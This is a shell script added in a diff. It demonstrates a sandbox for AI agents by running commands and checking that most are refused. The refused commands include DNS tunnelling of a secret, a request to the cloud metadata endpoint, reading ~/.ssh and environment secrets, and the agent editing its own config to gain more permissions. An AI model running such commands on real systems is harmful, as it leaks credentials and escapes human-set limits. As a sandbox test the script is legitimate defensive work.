@@ -1,0 +1,58 @@
+#!/bin/sh
+# Stands for an agent: real commands, in a capsule. Each is shown with what became of it, and why. Exits 1 if one came out otherwise
+# than it should. DEMO_PYTHON: a Python that the capsule sees.
+python=${DEMO_PYTHON:-python3}
+wrong=0
+
+if [ -n "${DEMO_COLOUR:-}" ]; then
+  bold=$(printf '\033[1m') green=$(printf '\033[32m') red=$(printf '\033[31m') dim=$(printf '\033[2m') off=$(printf '\033[0m')
+else
+  bold='' green='' red='' dim='' off=''
+fi
+
+# step EXPECTED TITLE COMMAND: runs COMMAND and shows the last line it said.
+step() {
+  expected=$1 title=$2 command=$3
+  printf '\n%s%s%s\n%s  $ %s%s\n' "$bold" "$title" "$off" "$dim" "$command" "$off"
+  if said=$(sh -c "$command" 2>&1 </dev/null); then outcome=allowed colour=$green; else outcome=refused colour=$red; fi
+  printf '  %s%s%s  %s\n' "$colour" "$outcome" "$off" "$(printf '%s\n' "$said" | grep -v '^[[:space:]]*$' | tail -n 1 | cut -c 1-220)"
+  if [ "$outcome" != "$expected" ]; then
+    wrong=1
+    printf '  %sthis should have been %s; all it said:%s\n%s\n' "$red" "$expected" "$off" "$said"
+  fi
+}
+
+step allowed 'Install a package from the Python package index (preset "python")' \
+  "$python -m venv /tmp/venv && /tmp/venv/bin/pip install --disable-pip-version-check --no-cache-dir six"
+
+step refused 'Fetch a page that nobody listed' \
+  "$python fetch.py https://example.com/"
+
+step refused 'The same without proxy variables' \
+  "env -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY $python fetch.py https://example.com/"
+
+step refused 'Ask the name server to carry a secret out in a name' \
+  "getent hosts c2VjcmV0.tunnel.example.com || { echo 'no such name: kap answers allowed names only, and asks nobody'; exit 2; }"
+
+step refused 'Connect to an address, past all proxies' \
+  "$python fetch.py tcp://192.0.2.1:443"
+
+step refused 'Ask the proxy for the cloud metadata service' \
+  "$python fetch.py http://169.254.169.254/latest/meta-data/"
+
+step refused 'Open a raw socket' \
+  "$python -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'"
+
+step refused 'Read a secret from the environment it was started in' \
+  'echo "${DEMO_SECRET:?not in here (it is set outside of the capsule)}"'
+
+step refused 'Read the SSH keys of the person who started it' \
+  'ls ~/.ssh'
+
+step refused 'Allow itself more' \
+  'echo "presets = [\"github\"]" >> kap.toml'
+
+step allowed 'Write to its own workspace' \
+  'echo done > result.txt && echo "result.txt: $(cat result.txt)"'
+
+exit $wrong
